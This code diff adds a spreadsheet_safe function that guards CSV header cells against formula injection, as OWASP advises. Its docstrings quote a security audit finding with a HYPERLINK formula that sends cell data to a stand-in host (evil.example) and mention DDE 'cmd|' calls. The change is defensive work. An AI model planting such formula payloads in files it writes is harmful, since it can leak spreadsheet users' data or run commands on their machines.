@@ -133,6 +133,24 @@ def remove_if_empty(path: Path) -> None:
         path.rmdir()
 
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+"""What a spreadsheet takes a cell beginning with for a formula (OWASP's "CSV
+injection"): Excel and LibreOffice evaluate ``=HYPERLINK(...)`` or a ``cmd|`` DDE call in
+a CSV cell whether quoted or not."""
+
+
+def spreadsheet_safe(text: str) -> str:
+    """``text`` as a CSV text cell we write (a channel name in a header): with a ``'``
+    in front where it begins with one of :data:`FORMULA_STARTS`, so a spreadsheet shows
+    it as text instead of evaluating it (OWASP's advice); otherwise unchanged. A name
+    ``-x`` reads ``'-x``; the name is the cell without that first ``'``. Numbers are
+    written as numbers, never through this (``-1.5`` stays a number). A channel name is
+    any text of its input (a CSV header, an MCAP topic): a security audit's item H2 found
+    ``export`` and ``corrected.csv`` writing ``=HYPERLINK("http://evil.example/?leak="&B3,
+    "click")`` as a header cell."""
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
 def write_atomic(path: Path, data: bytes | str) -> None:
     """Write ``path`` via a temporary file and rename, so readers never see half a file;
     an error writing it names ``path`` (:func:`named_error`)."""
